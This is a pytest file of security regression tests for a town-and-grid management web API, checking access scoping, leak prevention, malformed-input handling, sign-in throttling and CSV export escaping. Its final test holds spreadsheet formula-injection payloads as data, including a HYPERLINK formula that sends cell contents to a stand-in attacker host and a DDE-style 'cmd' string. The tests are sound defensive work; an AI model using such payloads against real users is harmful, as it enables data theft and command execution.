"""Issue 14 (items 3, 5, 6, 7) as an attacker tries them over HTTP with sign-in on and real accounts:
one test per attack. Each failed on the main branch before this change."""

from __future__ import annotations

import io
import json
import threading
import time
from datetime import UTC, datetime

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from layers.accounts.models import User
from layers.accounts.security import set_disabled
from layers.workers import registry as workers
from tests.api import mvt
from tests.api.test_auth import HASH, ON, PASSWORD, api, bearer, city, make_client, sign_in  # noqa: F401
from tests.api.test_scope import _inside, world  # noqa: F401
from tests.api.test_tiles import city_tiles

NOW = datetime.now(UTC).replace(microsecond=0).isoformat()


def _strict(body: str):
    """JSON as the standard has it: NaN and Infinity are not JSON."""
    def refuse(name):
        raise ValueError(f"not JSON: {name}")
    return json.loads(body, parse_constant=refuse)


@pytest.fixture
def places(demo_session, world):  # noqa: F811
    """A grid and a point inside it in towns A and B, a second worker in A's grid, and a grid-worker
    account for worker W-A (its username is its worker id)."""
    out = {}
    for tag in ("A", "B"):
        out[tag] = _inside(demo_session, world[tag])
    workers.create_worker(demo_session, id="W-A2", name="网格员A2", grids=[out["A"][0]])
    demo_session.add(User(username="W-A", display_name="网格员A", password_hash=HASH, role="grid_worker",
                          grid_codes=[out["A"][0]]))
    demo_session.flush()
    return out


# ----------------------------------------------------------------------------- 3: ingest scoped

def test_readings_for_another_towns_sensor_are_refused(api, world, places, demo_session):  # noqa: F811
    town = bearer(api, "town_a")
    batch = f"sensor_id,ts,pm25\nS-A,{NOW},10\nS-B,{NOW},20\n"
    refused = api.post("/sensors/readings", content=batch, headers={**town, "content-type": "text/csv"})
    assert refused.status_code == 403, refused.text
    assert refused.json()["info"] == {"ids": ["S-B"]} and "S-B" in refused.json()["detail"]
    stored = demo_session.scalar(text("SELECT count(*) FROM sensor_readings WHERE sensor_id IN ('S-A', 'S-B')"))
    assert stored == 0  # refused whole: nothing stored, nothing silently dropped
    mine = api.post("/sensors/readings", content=f"sensor_id,ts,pm25\nS-A,{NOW},10\n",
                    headers={**town, "content-type": "text/csv"})
    assert mine.status_code == 200 and mine.json()["inserted"] == 1
    assert api.post("/sensors/import", content="id,name,lon,lat\nS-X,x,118.8,36.9\n",
                    headers={**town, "content-type": "text/csv"}).status_code == 403


def test_gps_fixes_only_for_ones_own_workers(api, world, places, demo_session):  # noqa: F811
    _, lon, lat = places["A"]
    fix = f"worker_id,ts,lon,lat\n{{}},{NOW},{lon},{lat}\n"
    town = bearer(api, "town_a")
    refused = api.post("/workers/positions", content=fix.format("W-B"), headers={**town, "content-type": "text/csv"})
    assert refused.status_code == 403 and refused.json()["info"] == {"ids": ["W-B"]}
    worker = bearer(api, "W-A")  # a grid worker reports its own fixes only, not a colleague's
    other = api.post("/workers/positions", content=fix.format("W-A2"), headers={**worker, "content-type": "text/csv"})
    assert other.status_code == 403 and other.json()["info"] == {"ids": ["W-A2"]}
    own = api.post("/workers/positions", content=fix.format("W-A"), headers={**worker, "content-type": "text/csv"})
    assert own.status_code == 200 and own.json()["inserted"] == 1
    assert demo_session.scalar(text("SELECT count(*) FROM worker_positions WHERE worker_id IN ('W-B', 'W-A2')")) == 0
    roster = api.post("/workers/import", content="id,name\nW-Z,z\n", headers={**town, "content-type": "text/csv"})
    assert roster.status_code == 403


def test_cameras_outside_the_area_are_refused_by_id(api, world, places):  # noqa: F811
    town = bearer(api, "town_a")
    (_, lon_a, lat_a), (_, lon_b, lat_b) = places["A"], places["B"]
    one = api.post("/cameras", json={"id": "CAM-B", "name": "外镇", "lon": lon_b, "lat": lat_b}, headers=town)
    assert one.status_code == 403 and one.json()["info"] == {"ids": ["CAM-B"]}
    csv_body = f"id,name,lon,lat\nCAM-A1,本镇,{lon_a},{lat_a}\nCAM-B1,外镇,{lon_b},{lat_b}\n"
    batch = api.post("/cameras/import", content=csv_body, headers={**town, "content-type": "text/csv"})
    assert batch.status_code == 403 and batch.json()["info"] == {"ids": ["CAM-B1"]}


# ----------------------------------------------------------------------------- 5: leaks

def test_resolve_and_reverse_hide_other_towns_grids(api, world, places):  # noqa: F811
    town, admin = bearer(api, "town_a"), bearer(api, "city_admin")
    (code_a, lon_a, lat_a), (code_b, lon_b, lat_b) = places["A"], places["B"]
    for path in ("/resolve", "/reverse"):
        theirs = api.get(f"{path}?lon={lon_b}&lat={lat_b}", headers=town).json()
        assert theirs["grid_code"] is None and theirs["grid_name"] is None and theirs["village_name"] is None
        assert theirs["in_scope"] is False and theirs["town_code"] == world["B"]
        assert code_b not in json.dumps(theirs, ensure_ascii=False)
        mine = api.get(f"{path}?lon={lon_a}&lat={lat_a}", headers=town).json()
        assert mine["grid_code"] == code_a and mine["grid_name"] and mine["in_scope"] is True
        assert api.get(f"{path}?lon={lon_b}&lat={lat_b}", headers=admin).json()["grid_code"] == code_b
    batch = api.post("/resolve", json=[{"lon": lon_a, "lat": lat_a}, {"lon": lon_b, "lat": lat_b}], headers=town).json()
    assert [r["grid_code"] for r in batch] == [code_a, None] and [r["in_scope"] for r in batch] == [True, False]


def test_tile_labels_name_only_ones_own_grids(api, world, places, demo_session):  # noqa: F811
    town = bearer(api, "town_a")
    names = dict(demo_session.execute(text("SELECT code, name FROM grids WHERE valid_to IS NULL")).all())
    for layer in ("grids", "base"):
        labels = []
        for z, x, y in city_tiles(10):
            res = api.get(f"/tiles/{layer}/{z}/{x}/{y}.pbf", headers=town)
            assert res.status_code == 200
            labels += mvt.decode(res.content).get("grids_labels", [])
        named = {f["properties"]["code"] for f in labels if f["properties"].get("name")}
        seen = {f["properties"]["code"] for f in labels}
        assert places["B"][0] in seen and places["B"][0] not in named, layer
        assert named == {c for c in seen if c.startswith(world["A"][:9])} and places["A"][0] in named
        assert all(f["properties"]["name"] == names[f["properties"]["code"]] for f in labels
                   if f["properties"].get("name"))


def test_validate_refuses_another_towns_village(api, world, places):  # noqa: F811
    admin, town = bearer(api, "city_admin"), bearer(api, "town_a")
    feature = api.get(f"/grids/{places['B'][0]}", headers=admin).json()
    proposal = {"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": feature["geometry"],
                                                           "properties": {"code": places["B"][0]}}]}
    refused = api.post("/grids/validate", json=proposal, headers=town)
    assert refused.status_code == 403 and refused.json()["info"] == {"ids": [places["B"][0][:12]]}
    assert "problems" not in refused.json()
    assert api.post("/grids/validate", json=proposal, headers=admin).status_code == 200


# ----------------------------------------------------------------------------- 6: bad input

DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize("path", ["/sensors/readings", "/sensors/import", "/workers/positions", "/workers/import",
                                  "/resolve"])
def test_deeply_nested_json_is_a_4xx(api, world, path):  # noqa: F811
    admin = bearer(api, "city_admin")
    for body in (DEEP, '[{"sensor_id": ' + "[" * 100_000 + "]" * 100_000 + "}]"):
        res = api.post(path, content=body, headers={**admin, "content-type": "application/json"})
        assert 400 <= res.status_code < 500, (path, res.status_code, res.text[:200])


def test_camera_import_non_utf8_and_huge_fields_are_a_4xx(api, world, places):  # noqa: F811
    admin = bearer(api, "city_admin")
    _, lon, lat = places["A"]
    for body in (f"id,name,lon,lat\nC1,摄像头,{lon},{lat}\n".encode("gbk"),
                 f"id,name,lon,lat\nC2,{'x' * 140_000},{lon},{lat}\n".encode(),
                 f"id,name,lon,lat,source\nC3,n,{lon},{lat},{'s' * 9000}\n".encode()):
        res = api.post("/cameras/import", content=body, headers={**admin, "content-type": "text/csv"})
        assert res.status_code == 400, res.text[:300]


def test_cameras_refuse_nan_and_huge_numbers_and_the_list_stays_up(api, world, places):  # noqa: F811
    admin = bearer(api, "city_admin")
    _, lon, lat = places["A"]
    base = {"id": "CAM-N", "name": "n", "lon": lon, "lat": lat}
    for bad in ({"lon": "NaN"}, {"lat": 1e308}, {"lon": -1e308}, {"heading_deg": "Infinity"}, {"range_m": 1e308},
                {"fov_deg": "NaN"}, {"sample_fps": "-Infinity"}):
        body = json.dumps({**base, **{k: float(v) if isinstance(v, str) else v for k, v in bad.items()}})
        res = api.post("/cameras", content=body, headers={**admin, "content-type": "application/json"})
        assert 400 <= res.status_code < 500, (bad, res.status_code)
    assert api.post("/cameras", json=base, headers=admin).status_code == 201
    for bad in ('{"heading_deg": NaN}', '{"range_m": 1e308}', '{"lon": Infinity, "lat": 1}'):
        res = api.patch("/cameras/CAM-N", content=bad, headers={**admin, "content-type": "application/json"})
        assert 400 <= res.status_code < 500, (bad, res.status_code)
    listed = api.get("/cameras", headers=admin)
    assert listed.status_code == 200 and "CAM-N" in {f["id"] for f in _strict(listed.text)["features"]}


def test_resolve_never_answers_nan_or_infinity(api, world):  # noqa: F811
    admin = bearer(api, "city_admin")
    one = api.get("/resolve?lon=1e300&lat=1e300&crs=EPSG:3857", headers=admin)
    assert one.status_code in (200, 400) and _strict(one.text)
    batch = api.post("/resolve", content='[{"lon": 1e999, "lat": 36.8}, {"lon": 118.8, "lat": -1e999}, [1e400, 2]]',
                     headers={**admin, "content-type": "application/json"})
    assert batch.status_code == 200
    rows = _strict(batch.text)
    assert len(rows) == 3 and all(r["error"] for r in rows)


def test_one_body_limit_for_every_content_type(demo_session):
    from api import middleware
    from tests.api.test_auth import OFF

    client = make_client(demo_session, OFF, middleware.HttpSettings(max_body_bytes=2048))
    big = b"[" + b",".join(b'{"lon": 118.79, "lat": 36.86}' for _ in range(200)) + b"]"
    for kind in ("application/octet-stream", "multipart/form-data; boundary=x", "application/zip", "text/csv"):
        res = client.post("/resolve", content=big, headers={"content-type": kind})
        assert res.status_code == 413 and "2,048 bytes" in res.json()["detail"], kind

        def chunks():
            yield big[:1500]
            yield big[1500:]
        res = client.post("/resolve", content=chunks(), headers={"content-type": kind})
        assert res.status_code == 413, kind


# ----------------------------------------------------------------------------- 7: sessions

class _Shared:
    """The test's session for the live stream's re-checks (the app closes what it opens: a no-op here)."""

    def __init__(self, session, kw: dict) -> None:
        self.session = session
        self.kw = kw  # the engine the live hub listens on

    def __call__(self):
        return self

    def close(self) -> None:
        pass

    def __getattr__(self, name):
        return getattr(self.session, name)


def test_live_stream_ends_when_the_account_is_disabled(demo_session, world, monkeypatch):  # noqa: F811
    from api.routers import live

    monkeypatch.setattr(live, "RECHECK_S", 0.3, raising=False)
    client = make_client(demo_session, ON)
    client.app.state.sessions = _Shared(demo_session, client.app.state.sessions.kw)
    headers = bearer(client, "town_a")
    answer: dict = {}

    def listen():
        answer["response"] = client.get("/live?channels=tickets", headers=headers)

    def disable():
        time.sleep(1.0)
        set_disabled(demo_session, "town_a")
        demo_session.flush()

    listener = threading.Thread(target=listen, daemon=True)
    revoker = threading.Thread(target=disable, daemon=True)
    listener.start()
    revoker.start()
    listener.join(timeout=20)
    assert not listener.is_alive(), "the stream kept flowing after the account was disabled"
    body = answer["response"].text
    assert "event: hello" in body and "event: revoked" in body and "account disabled" in body


def test_sign_in_throttled_per_address_and_account_without_freezing_the_admin(demo_session, world):  # noqa: F811
    app = make_client(demo_session, ON).app

    def from_ip(ip: str) -> TestClient:
        return TestClient(app, raise_server_exceptions=False, client=(ip, 40000))

    outside, hall = from_ip("203.0.113.7"), from_ip("10.1.1.1")
    for _ in range(5):
        assert sign_in(outside, "city_admin", "wrong guess 123").status_code == 401
    locked = sign_in(outside, "city_admin")
    assert locked.status_code == 429 and int(locked.headers["retry-after"]) > 0
    ok = sign_in(hall, "city_admin")  # the admin is not frozen by someone failing from outside
    assert ok.status_code == 200 and ok.headers["cache-control"] == "no-store"
    # an unknown name is answered exactly like a real one, failures and lock alike
    for _ in range(5):
        unknown, real = sign_in(outside, "nobody-here", "x" * 12), sign_in(from_ip("203.0.113.8"), "town_a", "x" * 12)
        assert unknown.status_code == real.status_code == 401
        assert unknown.json() == real.json() == {"detail": "incorrect username or password"}
    assert sign_in(outside, "nobody-here").status_code == 429
    assert sign_in(from_ip("203.0.113.8"), "town_a").status_code == 429


def test_sign_in_counts_are_shared_by_every_server_process(demo_session, world):  # noqa: F811
    # two apps on one database stand for two server processes: failures made through either count
    # together (the counts lived in each process's memory: N processes gave N times the budget)
    first, second = (make_client(demo_session, ON).app for _ in range(2))
    a, b = (TestClient(app, raise_server_exceptions=False, client=("203.0.113.9", 40000)) for app in (first, second))
    for client in (a, a, a, b, b):
        assert sign_in(client, "city_admin", "wrong guess 123").status_code == 401
    for client in (a, b):
        refused = sign_in(client, "city_admin")
        assert refused.status_code == 429 and int(refused.headers["retry-after"]) > 0
    hall = TestClient(second, raise_server_exceptions=False, client=("10.1.1.1", 40000))
    assert sign_in(hall, "city_admin").status_code == 200


def test_sign_in_throttled_across_addresses_and_per_address(demo_session, world, monkeypatch):  # noqa: F811
    from layers.accounts import throttle as T

    monkeypatch.setattr(T, "ACCOUNT_FAILURES", 6)
    monkeypatch.setattr(T, "IP_FAILURES", 8)
    app = make_client(demo_session, ON).app

    def from_ip(ip: str) -> TestClient:
        return TestClient(app, raise_server_exceptions=False, client=(ip, 40000))

    assert sign_in(from_ip("10.1.1.1"), "city_admin").status_code == 200  # a known address
    for i in range(6):  # a distributed guess: one failure from each of many addresses
        assert sign_in(from_ip(f"198.51.100.{i}"), "city_admin", "guess 12345").status_code == 401
    fresh = sign_in(from_ip("198.51.100.99"), "city_admin")
    assert fresh.status_code == 429 and int(fresh.headers["retry-after"]) > 0
    assert sign_in(from_ip("10.1.1.1"), "city_admin").status_code == 200  # where the admin signed in before
    spray = from_ip("192.0.2.5")  # one address, one password, many names
    for i in range(8):
        assert sign_in(spray, f"user{i}", "Summer2024!!").status_code == 401
    assert sign_in(spray, "town_a").status_code == 429


def test_unknown_names_cost_the_same_time_as_wrong_passwords(demo_session, world):  # noqa: F811
    client = make_client(demo_session, ON)

    def timed(name: str) -> float:
        started = time.perf_counter()
        assert sign_in(client, name, "not the password").status_code == 401
        return time.perf_counter() - started

    real = sorted(timed("town_a") for _ in range(4))[1:3]
    unknown = sorted(timed("no-such-user") for _ in range(4))[1:3]
    ratio = sum(unknown) / sum(real)
    assert 0.6 < ratio < 1.6, (real, unknown)


def test_common_passwords_are_refused_by_users_add_and_reset(cli_env):
    from typer.testing import CliRunner

    from scripts.cli import app

    runner = CliRunner()
    for weak in ("password123", "1234567890", "Qwertyuiop", "woaini1314", "zhangsan-admin-zhangsan"):
        added = runner.invoke(app, ["users", "add", "zhangsan", "--role", "analyst", "--password-stdin"],
                              input=weak + "\n")
        assert added.exit_code != 0 and "password" in added.output, (weak, added.output)
    assert runner.invoke(app, ["users", "add", "zhangsan", "--role", "analyst", "--password-stdin"],
                         input="violet kettle under moon\n").exit_code == 0
    reset = runner.invoke(app, ["users", "reset", "zhangsan", "--password-stdin"], input="iloveyou123\n")
    assert reset.exit_code != 0 and "common" in reset.output


def test_csv_exports_escape_formulas_but_not_numbers(api, world, places, demo_session):  # noqa: F811
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'  # typed by a citizen into a report
    demo_session.execute(text("UPDATE tickets SET description = :d, address = '+86 cmd' WHERE id = :id"),
                         {"d": evil, "id": world["ticket_A"]})
    demo_session.add(User(username="analyst_city", display_name="分析", password_hash=HASH, role="analyst"))
    demo_session.flush()
    res = api.get("/export/tickets?format=csv", headers=bearer(api, "analyst_city"))
    assert res.status_code == 200
    frame = pd.read_csv(io.BytesIO(res.content), dtype=str, keep_default_na=False)
    cells = [c for col in frame.columns for c in frame[col]]
    assert "'" + evil in cells and evil not in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    # numbers stay numbers: a negative value in a numeric column, and a text cell that is a plain number
    from gis import csvsafe

    sample = pd.DataFrame({"delta": [-3.5, 2.0], "note": ["-12", "-1+cmd|' /C calc'!A0"]})
    out = csvsafe.frame(sample)
    assert out["delta"].tolist() == [-3.5, 2.0] and out["note"].tolist() == ["-12", "'-1+cmd|' /C calc'!A0"]
